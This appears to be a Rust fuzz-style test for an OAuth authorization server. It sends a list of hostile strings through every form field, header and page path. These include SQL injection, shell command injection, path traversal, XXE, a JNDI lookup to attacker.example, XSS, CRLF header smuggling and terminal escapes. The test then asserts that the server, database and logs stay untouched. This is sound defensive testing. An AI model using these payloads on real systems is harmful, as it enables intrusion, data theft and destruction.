//! Texts that break other programs, in every parameter and header of every endpoint: none does more here than it says.

use std::fmt::Write;
use std::net::SocketAddr;
use std::time::Duration;

use auth_e2e::client::Client;
use auth_e2e::installation::Installation;
use auth_e2e::raw;
use auth_e2e::scale;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;

use crate::database::Database;

const PATIENCE: Duration = Duration::from_secs(20);

/// Appears in every text that would make a header or a line of the log by itself.
const FORGED: &str = "x-forged-by-a-stranger";

/// SQL, shells, templates, terminals, headers, log lines, and text that is written or read in unusual ways. Bytes, since
/// some are no text.
pub(crate) const TEXTS: &[&[u8]] = &[
    b"' OR '1'='1",
    b"' OR 1=1 --",
    b"\" OR \"\"=\"",
    b"'; DROP TABLE users; --",
    b"'); DELETE FROM sessions; --",
    b"' UNION SELECT password_hash FROM users --",
    b"admin'/*",
    b"admin' AND (SELECT count(*) FROM sqlite_master) > 0 --",
    b"1; ATTACH DATABASE '/tmp/stolen.db' AS stolen; --",
    b"%' ESCAPE '%",
    b"_%_%",
    b"\\'; --",
    b"';EXEC xp_cmdshell('id')--",
    b"' || pg_sleep(10) --",
    b"' AND randomblob(1000000000) --",
    b"$(id)`id`|id;id&&id",
    b"../../../../etc/passwd",
    b"{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    b"${jndi:ldap://attacker.example/a}",
    b"%s%s%s%n%x",
    b"<script>alert(1)</script>",
    b"\"><img src=x onerror=alert(1)>",
    b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    b"{\"$ne\":null}",
    b"a\r\nx-forged-by-a-stranger: 1",
    b"a\nx-forged-by-a-stranger: 1\r\n\r\n",
    b"a\r\n\r\nHTTP/1.1 200 OK\r\nx-forged-by-a-stranger: 1\r\n\r\n",
    b"\n{\"level\":\"ERROR\",\"message\":\"x-forged-by-a-stranger\"}\n",
    b"\",\"message\":\"x-forged-by-a-stranger\",\"a\":\"",
    b"\x1b[2J\x1b[31mx-forged-by-a-stranger\x1b[0m",
    b"\x1b]0;x-forged-by-a-stranger\x07\x08\x08\x7f",
    b"\xc2\x9b31m",
    b"a\0b",
    b"\0",
    b"\xc0\x80\xc0\xaf",
    b"\xe0\x80\xaf\xf0\x80\x80\xaf",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf4\x90\x80\x80\xff\xfe",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{1f1e9}\u{1f1ea}".as_bytes(),
    "\u{202e}nimda\u{202c}\u{2066}\u{2069}".as_bytes(),
    "\u{0645}\u{0631}\u{062d}\u{0628}\u{0627}".as_bytes(),
    "\u{feff}admin\u{200b}".as_bytes(),
    "\u{0430}dmin\u{2028}\u{2029}\u{0085}".as_bytes(),
    "Z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}A\u{0334}\u{0335}".as_bytes(),
    "\u{fdfa}\u{fb03}\u{0130}\u{1e9e}".as_bytes(),
    b"-9223372036854775809",
    b"1e999999",
    b"NaN",
    b"undefined",
    b"CON",
];

const FORMS: &[(&str, &[(&str, &str)])] = &[
    (
        "/oauth/token",
        &[
            ("grant_type", "password"),
            ("client_id", "codelab-flutter-app"),
            ("client_secret", ""),
            ("username", "admin"),
            ("password", "Wrong-Horse-7-Battery"),
            ("scope", "api:read"),
        ],
    ),
    (
        "/oauth/token",
        &[
            ("grant_type", "refresh_token"),
            ("client_id", "codelab-flutter-app"),
            ("refresh_token", "a.b.c"),
            ("scope", "api:read"),
            ("audience", "codelab-api"),
        ],
    ),
    (
        "/oauth/revoke",
        &[
            ("client_id", "codelab-flutter-app"),
            ("token", "a.b.c"),
            ("token_type_hint", "refresh_token"),
        ],
    ),
    (
        "/oauth/introspect",
        &[
            ("client_id", "codelab-internal"),
            ("client_secret", "0"),
            ("token", "a.b.c"),
            ("token_type_hint", "access_token"),
        ],
    ),
];

const PAGES: &[&str] = &[
    "/.well-known/jwks.json",
    "/.well-known/oauth-authorization-server",
    "/health",
    "/ready",
    "/metrics",
    "/openapi.json",
    "/docs",
    "/nowhere",
];

const HEADERS: &[&str] = &[
    "accept",
    "accept-encoding",
    "authorization",
    "connection",
    "content-type",
    "cookie",
    "expect",
    "forwarded",
    "host",
    "if-none-match",
    "origin",
    "range",
    "referer",
    "traceparent",
    "tracestate",
    "transfer-encoding",
    "upgrade",
    "user-agent",
    "x-correlation-id",
    "x-forwarded-for",
    "x-forwarded-host",
    "x-forwarded-proto",
    "x-original-url",
];

#[test]
fn hostile_texts_anywhere_do_nothing_but_be_refused() {
    let installation = Installation::new()
        .unlimited()
        .with("AUTH_SERVICE__LOG_FORMAT", "json")
        .with("AUTH_SERVICE__LOG_LEVEL", "debug")
        .with("AUTH_SERVICE__FAILED_LOGIN_FLOOR", "0");
    let mut server = installation.start();
    let client = Client::flutter(server.http());
    let tokens = client.admin_tokens();
    let before = contents(&installation);
    let printed_before = installation.printed().len();

    let requests = requests();
    for request in &requests {
        assert_is_refused_or_served(server.address(), request);
    }

    assert!(server.is_running());
    assert_eq!(server.http().get("/health").unwrap().status, 200);
    client.refreshed(&tokens);
    assert_no_line_is_forged(&installation.printed()[printed_before..]);
    let audited_lines = Database::open(&installation.database())
        .number("SELECT count(*) FROM audit_logs WHERE user_agent GLOB '*[^ -~]*'");
    assert_eq!(
        audited_lines, 0,
        "a user agent is stored in printable ASCII alone"
    );
    assert_eq!(contents(&installation), before);
    scale::attempts(requests.len());
}

fn requests() -> Vec<Vec<u8>> {
    let mut requests = Vec::new();
    for text in TEXTS {
        for (path, form) in FORMS {
            requests.extend(with_each_value_replaced(path, form, text));
            let encoded = STANDARD.encode([text, &b":"[..], text].concat());
            requests.push(posted(
                path,
                &format!("authorization: Basic {encoded}\r\n").into_bytes(),
                form,
            ));
        }
        requests.extend(with_each_header(text));
        requests.extend(
            PAGES
                .iter()
                .map(|page| got(&format!("{page}?{0}={0}", escaped(text)), b"")),
        );
        requests.extend(
            PAGES
                .iter()
                .map(|page| got(&format!("{page}/{}", escaped(text)), b"")),
        );
    }
    requests
}

fn with_each_value_replaced(path: &str, form: &[(&str, &str)], text: &[u8]) -> Vec<Vec<u8>> {
    let replaced = |at: usize| {
        let pair = |(number, (name, value)): (usize, &(&str, &str))| {
            let value = if number == at {
                escaped(text)
            } else {
                escaped(value.as_bytes())
            };
            format!("{name}={value}")
        };
        let pairs: Vec<String> = form.iter().enumerate().map(pair).collect();
        post(path, b"", pairs.join("&").as_bytes())
    };
    let mut requests: Vec<Vec<u8>> = (0..form.len()).map(replaced).collect();
    // As the name of a parameter, and as it is, without any encoding.
    requests.push(post(
        path,
        b"",
        format!("grant_type=password&{}=1", escaped(text)).as_bytes(),
    ));
    requests.push(post(path, b"", text));
    requests
}

/// Each header by the text as it is, line ends included: what follows one is a header of its own then, and must do as
/// little as any other that nobody reads.
fn with_each_header(text: &[u8]) -> Vec<Vec<u8>> {
    let mut requests = Vec::new();
    for name in HEADERS {
        let header = [name.as_bytes(), b": ", text, b"\r\n"].concat();
        requests.push(posted("/oauth/token", &header, FORMS[1].1));
        let pages = scale::times(1, PAGES.len());
        requests.extend(PAGES[..pages].iter().map(|page| got(page, &header)));
    }
    requests
}

fn posted(path: &str, headers: &[u8], form: &[(&str, &str)]) -> Vec<u8> {
    let pairs: Vec<String> = form
        .iter()
        .map(|(name, value)| format!("{name}={value}"))
        .collect();
    post(path, headers, pairs.join("&").as_bytes())
}

fn post(path: &str, headers: &[u8], body: &[u8]) -> Vec<u8> {
    let length = format!(
        "POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/x-www-form-urlencoded\r\n\
         content-length: {}\r\n",
        body.len()
    );
    [length.as_bytes(), headers, b"\r\n", body].concat()
}

fn got(path: &str, headers: &[u8]) -> Vec<u8> {
    [
        format!("GET {path} HTTP/1.1\r\nhost: localhost\r\n").as_bytes(),
        headers,
        b"\r\n",
    ]
    .concat()
}

fn escaped(text: &[u8]) -> String {
    text.iter().fold(String::new(), |mut escaped, byte| {
        let _ = write!(escaped, "%{byte:02x}");
        escaped
    })
}

#[track_caller]
fn assert_is_refused_or_served(address: SocketAddr, request: &[u8]) {
    let answer = raw::exchange(address, request, PATIENCE).unwrap();
    let text = String::from_utf8_lossy(&answer).to_ascii_lowercase();
    let statuses = raw::statuses(&answer);
    assert!(
        statuses.iter().all(|status| *status < 500 || *status == 501),
        "{statuses:?} to {}",
        request.escape_ascii()
    );
    assert!(
        !text.contains(&format!("\n{FORGED}")) && !text.contains(&format!("\"{FORGED}")),
        "{text} to {}",
        request.escape_ascii()
    );
    assert!(
        !answer
            .iter()
            .any(|byte| byte.is_ascii_control() && !b"\r\n\t".contains(byte)),
        "a control character in {} to {}",
        answer.escape_ascii(),
        request.escape_ascii()
    );
}

/// Each line is one object, which the server has named; nobody else has made one, or a field of one.
#[track_caller]
fn assert_no_line_is_forged(printed: &str) {
    assert!(printed.lines().count() > 100, "there is a log to look at");
    for line in printed.lines() {
        let object: Value =
            serde_json::from_str(line).unwrap_or_else(|_| panic!("not a line of ours: {line:?}"));
        assert!(
            object["level"].is_string() && object["timestamp"].is_string(),
            "not a line of ours: {line}"
        );
        assert!(
            !object.to_string().contains(&format!("\"message\":\"{FORGED}")),
            "{line}"
        );
        assert!(
            !line
                .chars()
                .any(|character| character.is_control() || is_turning(character)),
            "{line:?} does something to a terminal"
        );
    }
}

/// Whether a character turns the direction of the text around it.
fn is_turning(character: char) -> bool {
    matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

/// The tables and what is in them, but for the audit trail and what a refresh moves.
fn contents(installation: &Installation) -> Vec<(String, i64)> {
    let mut database = Database::open(&installation.database());
    assert_eq!(database.faults(), ["ok"]);
    [
        "SELECT count(*) FROM sqlite_master",
        "SELECT count(*) FROM users WHERE username = 'admin' AND is_active",
        "SELECT count(*) FROM users",
        "SELECT count(*) FROM oauth_clients WHERE is_active",
        "SELECT count(*) FROM sessions WHERE revoked_at IS NULL",
        "SELECT count(DISTINCT session_id) FROM refresh_tokens",
    ]
    .map(|query| (query.to_owned(), database.number(query)))
    .into()
}
